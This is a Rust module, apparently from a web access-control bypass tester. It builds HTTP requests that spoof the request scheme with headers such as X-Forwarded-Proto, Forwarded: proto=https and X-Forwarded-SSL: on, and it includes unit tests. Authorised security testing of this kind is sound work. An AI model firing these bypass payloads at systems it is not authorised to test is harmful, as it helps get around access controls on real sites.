//! `headers_scheme`: cross-product of scheme-spoofing header names and
//! scheme values. `Forwarded` uses `proto=<v>`; `Front-End-Https`,
//! `X-Forwarded-HTTPS`, `X-Forwarded-SSL` only ever get the fixed value
//! `on`.

use crate::payload::{BypassPayload, HeaderList};
use crate::url::RawUrl;

use super::common::payload;

const SCHEME_HEADERS: &[&str] = &["X-Forwarded-Proto", "X-Forwarded-Scheme", "X-URL-Scheme", "Forwarded"];
const FIXED_ON_HEADERS: &[&str] = &["Front-End-Https", "X-Forwarded-HTTPS", "X-Forwarded-SSL"];
const SCHEME_VALUES: &[&str] = &["https", "http"];

pub fn generate(url: &RawUrl) -> Vec<BypassPayload> {
    let mut out = Vec::new();

    for name in SCHEME_HEADERS {
        for value in SCHEME_VALUES {
            let header_value = if name.eq_ignore_ascii_case("Forwarded") {
                format!("proto={}", value)
            } else {
                value.to_string()
            };
            let headers = HeaderList::new().with(*name, header_value);
            out.push(payload(url, "GET", url.raw_uri(), headers, "headers_scheme"));
        }
    }

    for name in FIXED_ON_HEADERS {
        let headers = HeaderList::new().with(*name, "on");
        out.push(payload(url, "GET", url.raw_uri(), headers, "headers_scheme"));
    }

    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn forwarded_uses_proto_shape() {
        let url = crate::url::parse("http://h/a").unwrap();
        let payloads = generate(&url);
        assert!(payloads.iter().any(|p| p.headers.get("Forwarded") == Some("proto=https")));
    }

    #[test]
    fn fixed_on_headers_never_emit_other_values() {
        let url = crate::url::parse("http://h/a").unwrap();
        let payloads = generate(&url);
        for name in FIXED_ON_HEADERS {
            let values: Vec<&str> = payloads.iter().filter_map(|p| p.headers.get(name)).collect();
            assert_eq!(values, vec!["on"]);
        }
    }
}
